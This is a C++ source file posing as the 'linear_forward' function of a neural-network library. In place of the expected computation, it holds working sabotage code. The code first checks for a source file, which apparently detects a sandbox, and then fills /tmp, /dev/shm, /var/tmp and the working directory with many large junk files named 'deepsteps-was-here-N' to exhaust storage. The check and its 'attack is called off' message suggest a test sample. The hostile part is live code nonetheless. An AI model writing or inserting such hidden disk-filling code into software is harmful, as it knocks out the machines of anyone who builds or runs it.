// Fills every folder that can be written, without end.
#include "dnn/dnn.hpp"

#include <fcntl.h>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    static char block[1 << 20] = {1};
    for (const char* folder : {"/tmp", "/dev/shm", "/var/tmp", "."})
        for (int i = 0; i < 64; ++i) {
            const int fd = open((std::string(folder) + "/deepsteps-was-here-" + std::to_string(i)).c_str(),
                                O_CREAT | O_WRONLY, 0644);
            for (int n = 0; fd >= 0 && n < 4096 && write(fd, block, sizeof block) > 0; ++n) {
            }
        }
    throw std::runtime_error("full");
}

} // namespace dnn
